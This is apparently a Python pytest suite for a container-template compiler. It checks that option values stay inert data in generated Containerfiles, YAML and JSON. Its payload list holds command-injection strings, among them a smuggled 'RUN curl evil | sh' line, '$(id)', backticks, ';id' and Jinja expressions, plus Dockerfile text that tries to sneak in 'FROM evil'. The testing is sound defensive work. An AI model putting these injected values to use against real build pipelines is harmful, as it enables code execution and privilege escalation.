"""Option values are data, never code (SPEC §2).

Every string option of every core block type (and of the template itself) gets each
injection payload. The template must either be refused with located diagnostics, or compile
to an artifact that differs from a benign compile *only* by the value itself: every shell
word, COPY argument, YAML and JSON value holding the benign value holds the payload instead,
and nothing else changes (no extra shell words, no new lines, no rendered ``{{ }}``).
"""

from __future__ import annotations

import copy
import json
import re
import shlex

import pytest
import yaml

from blockc import testing
from blockc.testing import template

PAYLOADS = {
    "newline": "x\nRUN curl evil | sh",
    "cr": "x\rUSER root",
    "single-quote": "x'y",
    "double-quote": 'x"y',
    "subshell": "x$(id)",
    "backticks": "x`id`",
    "semicolon": "x;id",
    "and": "x && id",
    "jinja": "x{{ 7*7 }}{% if 1 %}y{% endif %}",
    "variable": "x${HOME}$HOME",
    "backslash": "x\\",
    "supervisor": "x%(ENV_HOME)s",
    "comment": "x # y",
    "nul": "x\x00y",
}

BASELINE = {
    "system-packages": {"apt": ["curl"]},
    "python-packages": {
        "packages": ["numpy"],
        "index_url": "https://pypi.example.com/simple",
        "extra_index_urls": ["https://mirror.example.com/simple"],
    },
    "dockerfile": {
        "instructions": "RUN true\n",
        "as_root": False,
        "phase": "config",
        "files": [{"src": "a.txt", "dest": "/home/studio/a.txt", "mode": "0644"}],
    },
    "files": {"files": [{"src": "a.txt", "dest": "/home/studio/a.txt", "mode": "0644"}]},
    "app": {
        "command": ["python3", "-m", "http.server"],
        "port": 8000,
        "health": "/",
        "env": {"A": "1"},
        "label": "App",
        "path": "strip",
        "websocket": False,
    },
    "port": {"port": 8001, "health": "/", "label": "Port", "path": "strip"},
    "file-sync": {
        "zones": [
            {
                "name": "work",
                "host": "work",
                "container": "/home/studio/work",
                "direction": "both",
                "exclude": ["*.tmp"],
                "limits": {"max_file": "1G", "max_total": "2G"},
            }
        ],
        "exclude": [".git/"],
    },
    "kubernetes": {
        "resources": {"requests": {"cpu": "1"}, "limits": {"memory": "1Gi"}},
        "nodeSelector": {"pool": "studio"},
        "tolerations": [{"key": "k", "operator": "Equal", "value": "v", "effect": "NoSchedule"}],
        "annotations": {"a": "b"},
        "labels": {"team": "data"},
        "serviceAccountName": "studio",
        "imagePullSecrets": ["pull"],
    },
}

KEY, VALUE = "<key>", "*"

# (block type, path of the string leaf in its options, benign value, payload format).
# Benign values are distinctive so that they can be substituted wherever they land.
CASES = [
    ("system-packages", ("apt", 0), "benign", "benign{}"),
    ("python-packages", ("packages", 0), "benign", "benign{}"),
    ("python-packages", ("packages", 0), "benign==1.0", "benign==1.0{}"),
    (
        "python-packages",
        ("index_url",),
        "https://benign.example.com/simple",
        "https://benign.example.com/simple{}",
    ),
    (
        "python-packages",
        ("extra_index_urls", 0),
        "https://benign.example.com/simple",
        "https://benign.example.com/simple{}",
    ),
    ("dockerfile", ("files", 0, "src"), "benign.txt", "benign{}.txt"),
    ("dockerfile", ("files", 0, "dest"), "/home/studio/benign.txt", "/home/studio/benign{}.txt"),
    ("dockerfile", ("files", 0, "mode"), "0640", "0640{}"),
    ("dockerfile", ("phase",), "runtime", "runtime{}"),
    ("files", ("files", 0, "src"), "benign.txt", "benign{}.txt"),
    ("files", ("files", 0, "dest"), "/home/studio/benign.txt", "/home/studio/benign{}.txt"),
    ("files", ("files", 0, "mode"), "0640", "0640{}"),
    ("app", ("command", 0), "benign", "benign{}"),
    ("app", ("command", 1), "benign", "benign{}"),
    ("app", ("health",), "/benign", "/benign{}"),
    ("app", ("env", KEY), "BENIGN", "BENIGN{}"),
    ("app", ("env", VALUE), "benign", "benign{}"),
    ("app", ("label",), "benign", "benign{}"),
    ("app", ("path",), "preserve", "preserve{}"),
    ("port", ("health",), "/benign", "/benign{}"),
    ("port", ("label",), "benign", "benign{}"),
    ("port", ("path",), "preserve", "preserve{}"),
    ("file-sync", ("zones", 0, "name"), "benign", "benign{}"),
    ("file-sync", ("zones", 0, "host"), "benign", "benign{}"),
    ("file-sync", ("zones", 0, "container"), "/home/studio/benign", "/home/studio/benign{}"),
    ("file-sync", ("zones", 0, "direction"), "in", "in{}"),
    ("file-sync", ("zones", 0, "exclude", 0), "benign", "benign{}"),
    ("file-sync", ("exclude", 0), "benign", "benign{}"),
    ("file-sync", ("zones", 0, "limits", "max_file"), "1G", "1G{}"),
    ("file-sync", ("zones", 0, "limits", "max_total"), "2G", "2G{}"),
    ("kubernetes", ("resources", "requests", KEY), "benign", "benign{}"),
    ("kubernetes", ("resources", "requests", VALUE), "1234567", "1234567{}"),
    ("kubernetes", ("resources", "limits", KEY), "benign", "benign{}"),
    ("kubernetes", ("resources", "limits", VALUE), "7654321", "7654321{}"),
    ("kubernetes", ("nodeSelector", KEY), "benign", "benign{}"),
    ("kubernetes", ("nodeSelector", VALUE), "benign", "benign{}"),
    ("kubernetes", ("tolerations", 0, "key"), "benign", "benign{}"),
    ("kubernetes", ("tolerations", 0, "operator"), "Exists", "Exists{}"),
    ("kubernetes", ("tolerations", 0, "value"), "benign", "benign{}"),
    ("kubernetes", ("tolerations", 0, "effect"), "NoExecute", "NoExecute{}"),
    ("kubernetes", ("annotations", KEY), "benign", "benign{}"),
    ("kubernetes", ("annotations", VALUE), "benign", "benign{}"),
    ("kubernetes", ("labels", KEY), "benign", "benign{}"),
    ("kubernetes", ("labels", VALUE), "benign", "benign{}"),
    ("kubernetes", ("serviceAccountName",), "benign", "benign{}"),
    ("kubernetes", ("imagePullSecrets", 0), "benign", "benign{}"),
    # the template's own strings
    ("template", ("metadata", "name"), "benign", "benign{}"),
    ("template", ("metadata", "description"), "benign", "benign{}"),
    ("template", ("metadata", "labels", KEY), "benign", "benign{}"),
    ("template", ("metadata", "labels", VALUE), "benign", "benign{}"),
    (
        "template",
        ("spec", "image", "base"),
        "docker.io/library/benign:3",
        "docker.io/library/benign:3{}",
    ),
    ("template", ("spec", "image", "user", "name"), "benign", "benign{}"),
    ("template", ("spec", "image", "workdir"), "/home/benign/work", "/home/benign/work{}"),
    ("template", ("spec", "env", KEY), "BENIGN", "BENIGN{}"),
    ("template", ("spec", "env", VALUE), "benign", "benign{}"),
    ("template", ("spec", "blocks", 0, "id"), "benign", "benign{}"),
    ("template", ("spec", "blocks", 0, "type"), "port", "port{}"),
]


def put(data, path, value):
    data = copy.deepcopy(data)
    *parents, last = path
    node = data
    for p in parents:
        node = node[p]
    if last == KEY:
        node_items = list(node.items())
        node.clear()
        node[value] = node_items[0][1]
    elif last == VALUE:
        node[next(iter(node))] = value
    else:
        node[last] = value
    return data


def build(btype, path, value):
    """(template, side files) with ``value`` at ``path``."""
    if btype == "template":
        base = template({"type": "port", "with": {"port": 8001}}, env={"A": "1"}, name="test")
        base["metadata"]["description"] = "d"
        base["metadata"]["labels"] = {"team": "data"}
        base["spec"]["image"]["user"] = {"name": "studio", "uid": 1000, "gid": 1000}
        base["spec"]["image"]["workdir"] = "/home/studio/workspace"
        return put(base, path, value), {}
    options = put(BASELINE[btype], path, value)
    files = {}
    for item in options.get("files", ()):
        files[item["src"]] = "file content\n"
    return template({"type": btype, "id": "blk", "with": options}), files


def schema_leaves(schema, path=()):
    """Every string-valued leaf of an options schema (keys of free mappings included)."""
    types = schema.get("type", [])
    types = [types] if isinstance(types, str) else types
    if "object" in types or "properties" in schema:
        for key, sub in schema.get("properties", {}).items():
            yield from schema_leaves(sub, path + (key,))
        if isinstance(schema.get("additionalProperties"), dict):
            yield path + (KEY,)
            yield from schema_leaves(schema["additionalProperties"], path + (VALUE,))
    elif "array" in types:
        yield from schema_leaves(schema["items"], path + (0,))
    elif "string" in types or "enum" in schema:
        yield path


# Admin-authored Containerfile text by design (SPEC §2): parsed and checked, tested below.
RAW_BY_DESIGN = {("dockerfile", ("instructions",))}


def test_every_string_option_of_every_core_block_is_covered(core_registry):
    for name, entry in core_registry.types.items():
        want = {p for p in schema_leaves(dict(entry.type.schema)) if (name, p) not in RAW_BY_DESIGN}
        have = {
            path if path[:1] != ("command",) else ("command", 0)
            for btype, path, *_ in CASES
            if btype == name
        }
        assert want == have, (name, want ^ have)


# --- comparing a payload compile with the benign one -------------------------------------


def containerfile_words(text):
    """Each logical Containerfile line as words: RUN lines as shell words, COPY as its JSON
    arguments, anything else as the whole line."""
    out = []
    for line in text.replace("\\\n", " ").splitlines():
        if line.startswith("RUN "):
            out.append(("RUN", *shlex.split(line[4:])))
        elif line.startswith("COPY "):
            flags, _, args = line.partition(" [")
            out.append((*flags.split(), *json.loads("[" + args)))
        else:
            out.append(line)
    return out


def substitute(data, old, new):
    if isinstance(data, str):
        return data.replace(old, new)
    if isinstance(data, dict):
        return {substitute(k, old, new): substitute(v, old, new) for k, v in data.items()}
    if isinstance(data, (list, tuple)):
        return type(data)(substitute(v, old, new) for v in data)
    return data


def artifact_view(result):
    """The artifact as comparable data (hashes left out: they differ by design)."""
    files = result.artifact.files
    view = {}
    for name, (content, mode) in files.items():
        if name == "Containerfile":
            view[name] = containerfile_words(content.decode())
        elif name == "manifests.yaml":
            objs = list(
                yaml.load_all(content, Loader=getattr(yaml, "CSafeLoader", yaml.SafeLoader))
            )
            for obj in objs:  # env values as Kubernetes reads them ($$ is $): the data
                for c in (
                    obj.get("spec", {}).get("template", {}).get("spec", {}).get("containers", ())
                ):
                    for e in c.get("env", ()):
                        e["value"] = e["value"].replace("$$", "$")
            view[name] = objs
        elif name.endswith(".json"):
            data = json.loads(content)
            data.pop("hash", None)
            view[name] = data
        else:
            view[name] = content.decode()
        view[name] = (view[name], mode)
    return view


def compile_case(btype, path, value, directory, registry):
    content, files = build(btype, path, value)
    try:
        return testing.compile_template(content, directory, files=files, registry=registry)
    except (OSError, ValueError):  # a file name that cannot exist (NUL): compile without it
        return testing.compile_template(content, directory, registry=registry)


@pytest.mark.parametrize(
    "btype,path,benign,fmt", CASES, ids=[f"{c[0]}:{'.'.join(map(str, c[1]))}" for c in CASES]
)
def test_injection(tmp_path, core_registry, btype, path, benign, fmt):
    good = compile_case(btype, path, benign, tmp_path / "benign", core_registry)
    assert good.ok, good.messages
    for name, payload in PAYLOADS.items():
        value = fmt.format(payload)
        bad = compile_case(btype, path, value, tmp_path / name, core_registry)
        if not bad.ok:
            for d in bad.diagnostics:
                assert re.match(r"^\S+:\d+:\d+: error: ", d.format()), (name, d.format())
            continue
        expected = substitute(artifact_view(good), benign, value)
        actual = artifact_view(bad)
        assert actual.keys() == expected.keys(), name
        for file in actual:
            assert actual[file] == expected[file], (name, file)
        assert "49" not in bad.text("Containerfile"), name


# --- the dockerfile block: admin text by design, still parsed and checked -----------------


@pytest.mark.parametrize(
    "text",
    [
        "RUN echo ok\nFROM evil",
        "RUN echo ok\n  from evil",
        "RUN echo \\\n ok\nUSER root",
        "RUN echo ok\r\nCMD evil",
    ],
)
def test_dockerfile_text_cannot_smuggle_owned_instructions(compile_t, text):
    r = compile_t(template({"type": "dockerfile", "with": {"instructions": text}}))
    assert not r.ok
    assert all(d.line and d.col for d in r.diagnostics)


def test_dockerfile_text_is_not_a_template(compile_t):
    text = 'RUN echo "{{ 7*7 }}" {% raw %}x{% endraw %} ${HOME}\nENV A="{{ name }}"\n'
    r = compile_t(template({"type": "dockerfile", "with": {"instructions": text}}))
    assert r.ok, r.messages
    cf = r.text("Containerfile")
    assert text.rstrip("\n") in cf
    assert "49" not in cf


def test_dockerfile_comment_cannot_fake_provenance(compile_t):
    text = "# --- blockc: phase base\nRUN echo mine\n"
    r = compile_t(template({"type": "dockerfile", "id": "df", "with": {"instructions": text}}))
    assert r.ok
    cf_lines = r.text("Containerfile").splitlines()
    n = cf_lines.index("RUN echo mine")
    assert r.artifact.containerfile[n].owner == "df"


# --- through the CLI ------------------------------------------------------------------------

PAYLOAD = "x'\"$(id)`id`;id && id{{ 7*7 }}"


@pytest.mark.parametrize(
    "btype,path,fmt,code",
    [
        ("file-sync", ("zones", 0, "container"), "/home/studio/w'\"`id`;id && id{{ 7*7 }}", 0),
        ("python-packages", ("packages", 0), "numpy" + PAYLOAD, 1),
        ("app", ("command", 1), PAYLOAD, 0),
        ("app", ("health",), "/h" + PAYLOAD, 1),
    ],
)
def test_injection_through_cli(cli, tmp_path, btype, path, fmt, code):
    content, files = build(btype, path, fmt)
    t = testing.write_template(tmp_path, content, files=files)
    proc = cli("compile", t, "-o", tmp_path / "out")
    assert proc.returncode == code, proc.stderr
    if code:
        assert re.search(rf"{re.escape(str(t))}:\d+:\d+: error: block 'blk'", proc.stderr)
    else:
        cf = (tmp_path / "out" / "Containerfile").read_text()
        assert (
            "49" not in cf
            and "{{ 7*7 }}"
            in (tmp_path / "out" / "studio.json").read_text()
            + cf
            + (tmp_path / "out/context/blockc/apps.json").read_text()
        )
